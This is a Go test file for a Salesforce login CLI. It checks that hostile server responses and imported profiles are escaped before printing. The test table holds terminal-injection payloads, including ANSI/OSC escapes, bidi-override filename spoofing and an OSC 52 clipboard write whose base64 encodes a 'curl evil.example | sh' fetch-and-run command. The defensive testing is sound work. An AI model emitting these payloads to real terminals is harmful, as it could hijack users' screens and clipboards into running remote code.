package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// hostile are values a server (or a file) may send to take over the terminal that prints them.
var hostile = []struct{ name, v string }{
	{"CSI colour and clear screen", "\x1b[31mred\x1b[2J\x1b[H"},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
	{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"},
	{"carriage return overwrite", "all good\rFAILED"},
	{"backspaces", "secret\b\b\b\b\b\bpublic"},
	{"bell", "ding\x07"},
	{"NUL", "a\x00b"},
	{"DEL", "a\x7fb"},
	{"C1 CSI", "\u009b31mred"},
	{"C1 OSC", "\u009d0;title\u009c"},
	{"bidi override", "user\u202egnp.exe"},
	{"bidi isolate", "a\u2066b\u2069c"},
	{"line separator", "one\u2028two"},
	{"raw 8-bit CSI (not UTF-8)", "\x9b31m"},
	{"vertical tab and form feed", "a\vb\fc"},
}

// checkTerminalSafe fails when out holds anything that can drive a terminal.
func checkTerminalSafe(t *testing.T, where, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s: not valid UTF-8: %q", where, out)
	}
	for i, r := range out {
		if r == '\n' || r == '\t' {
			continue
		}
		if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == '\u2028' || r == '\u2029' || unicode.Is(unicode.Bidi_Control, r) {
			lo := max(0, i-30)
			t.Errorf("%s: raw %U at byte %d: %q", where, r, i, out[lo:min(len(out), i+30)])
			return
		}
	}
}

func TestTerminalWriterEscapes(t *testing.T) {
	for _, h := range hostile {
		got := sanitize("<" + h.v + ">")
		checkTerminalSafe(t, h.name, got)
		if !strings.HasPrefix(got, "<") || !strings.HasSuffix(got, ">") {
			t.Errorf("%s: %q lost its surroundings", h.name, got)
		}
	}
	for in, want := range map[string]string{
		"plain\ttext\n":           "plain\ttext\n",
		"Müller — 東京 …":           "Müller — 東京 …",
		"\x1b[2J":                 `\u001b[2J`,
		"a\rb":                    `a\u000db`,
		"x\u202ey":                `x\u202ey`,
		"\u009b":                  `\u009b`,
		"\xff":                    `\xff`,
		"emoji 🔑 stays":           "emoji 🔑 stays",
		"\u200dzero width joiner": "\u200dzero width joiner",
	} {
		if got := sanitize(in); got != want {
			t.Errorf("sanitize(%q) = %q, want %q", in, got, want)
		}
	}
}

// A rune cut between two writes is kept whole; an incomplete one at the end is escaped.
func TestTerminalWriterSplitRunes(t *testing.T) {
	var b bytes.Buffer
	w := NewTerminalWriter(&b)
	for _, s := range []string{"Mü", "\xc3", "\xbcller \xe2\x80", "\xae ok \xe2"} { // ü split, U+202E split
		if n, err := w.Write([]byte(s)); n != len(s) || err != nil {
			t.Fatalf("Write(%q) = %d, %v", s, n, err)
		}
	}
	flushWriters(w)
	if want := `Müüller \u202e ok \xe2`; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
	if NewTerminalWriter(w) != w {
		t.Error("a terminal writer was wrapped twice")
	}
}

// JSON through the writer stays valid and decodes to the same values, with nothing raw.
func TestTerminalWriterKeepsJSON(t *testing.T) {
	m := map[string]string{}
	for _, h := range hostile {
		if utf8.ValidString(h.v) {
			m[h.name] = h.v
		}
	}
	var b bytes.Buffer
	w := NewTerminalWriter(&b)
	writeJSON(w, m)
	checkTerminalSafe(t, "JSON", b.String())
	var back map[string]string
	if err := json.Unmarshal(b.Bytes(), &back); err != nil {
		t.Fatalf("not JSON any more: %v\n%s", err, b.String())
	}
	for k, v := range m {
		if back[k] != v {
			t.Errorf("%s: decoded %q, want %q", k, back[k], v)
		}
	}
}

// hostileTokenServer is a token endpoint that answers with hostile values: in an OAuth error
// (status 400) or in a token response (status 200) with a hostile instance_url and scope.
func hostileTokenServer(t *testing.T, status int) *httptest.Server {
	var all strings.Builder
	for _, h := range hostile {
		all.WriteString(h.v + " ")
	}
	v := all.String()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("X-Evil", strings.Map(func(r rune) rune { // what a header can carry
			if r < 0x20 || r == 0x7f {
				return -1
			}
			return r
		}, v))
		w.WriteHeader(status)
		var body []byte
		if status == http.StatusOK {
			body, _ = json.Marshal(map[string]string{"access_token": "00Dxx0000001gPL!AQ4AQFakeAccessToken" + v,
				"instance_url": "https://evil.example" + v, "id": "https://login.salesforce.com/id/00Dxx0000001gPLEAY/005xx000001Sv6eAAC" + v,
				"token_type": "Bearer" + v, "issued_at": "1700000000000", "signature": "c2lnbmF0dXJl" + v, "scope": "api " + v})
		} else {
			body, _ = json.Marshal(map[string]string{"error": "invalid_grant" + v, "error_description": "authentication failure " + v})
		}
		// Raw bytes too: a body need not be valid JSON or UTF-8.
		body = append(body, []byte("\n\x1b]52;c;raw\x07\x9b")...)
		w.Write(body)
	}))
	t.Cleanup(srv.Close)
	return srv
}

// Nothing a hostile server sends reaches the terminal raw: not in the human output, not in
// the JSON output, not on stderr, whether the server refuses or "succeeds".
func TestRunPrintsNoControlBytesFromAServer(t *testing.T) {
	for _, status := range []int{http.StatusBadRequest, http.StatusOK} {
		srv := hostileTokenServer(t, status)
		for _, asJSON := range []bool{false, true} {
			args := []string{"--flow", "username-password", "--login-url", srv.URL, "--client-id", "cid", "--username", "u@example.com"}
			if asJSON {
				args = append(args, "--json")
			} else {
				args = append(args, "--verbose") // every field of the response, in every section
			}
			code, out, errOut := runTestCmd(t, map[string]string{"SF_CLIENT_SECRET": "s3cret-value", "SF_PASSWORD": "pw-value"}, "", args...)
			where := fmt.Sprintf("status %d json=%v", status, asJSON)
			if code != ExitFailed {
				t.Errorf("%s: exit %d, want %d\n%s", where, code, ExitFailed, errOut)
			}
			checkTerminalSafe(t, where+" stdout", out)
			checkTerminalSafe(t, where+" stderr", errOut)
			// The hostile values did reach the output, escaped.
			if both := out + errOut; !strings.Contains(both, `\u001b[31mred`) && !strings.Contains(both, `\\u001b[31mred`) {
				t.Errorf("%s: the escaped value is not shown:\n%s\n%s", where, out, errOut)
			}
			if asJSON {
				var got map[string]any
				if err := json.Unmarshal([]byte(out), &got); err != nil {
					t.Errorf("%s: not JSON: %v", where, err)
				}
			}
		}
	}
}

// Profile values from an import file (names, notes, client IDs) and an sf error message are
// escaped in list, show, export and errors.
func TestProfilesPrintNoControlBytesFromAnImport(t *testing.T) {
	profilesTestKeychain(t)
	dir := t.TempDir()
	export := map[string]any{"connectedapplab_export": 1, "profiles": []map[string]any{{
		"name": "evil\u202egnp.exe", "login_url": "https://login.salesforce.com", "client_id": "cid\u2066x\u2069",
		"notes": "line\u2028separator \u202eright-to-left", "flow": "web-server"}}}
	b, _ := json.Marshal(export)
	file := filepath.Join(t.TempDir(), "export.json")
	if err := os.WriteFile(file, b, 0o600); err != nil {
		t.Fatal(err)
	}
	r := runProfiles(t, dir, "", "import", file)
	if r.code != 0 {
		t.Fatalf("import: exit %d: %s", r.code, r.stderr)
	}
	checkTerminalSafe(t, "import", r.stdout+r.stderr)
	for _, args := range [][]string{{"list"}, {"show", "evil\u202egnp.exe"}, {"show", "evil\u202egnp.exe", "--json"}, {"export"}, {"show", "nope"}} {
		r := runProfiles(t, dir, "", args...)
		checkTerminalSafe(t, strings.Join(args, " "), r.stdout+r.stderr)
	}
	if r := runProfiles(t, dir, "", "list"); !strings.Contains(r.stdout, `evil\u202egnp.exe`) {
		t.Errorf("list does not show the escaped name:\n%s", r.stdout)
	}
	var msg strings.Builder
	for _, h := range hostile {
		msg.WriteString(h.v + " ")
	}
	sf, _ := json.Marshal(map[string]any{"status": 1, "name": "NoOrgFound", "message": msg.String()})
	os.WriteFile(file, sf, 0o600)
	r = runProfiles(t, dir, "", "import", file)
	if r.code == 0 || !strings.Contains(r.stderr, `\u001b]52;c;`) {
		t.Errorf("sf error: exit %d, stderr %q", r.code, r.stderr)
	}
	checkTerminalSafe(t, "sf error", r.stdout+r.stderr)
}
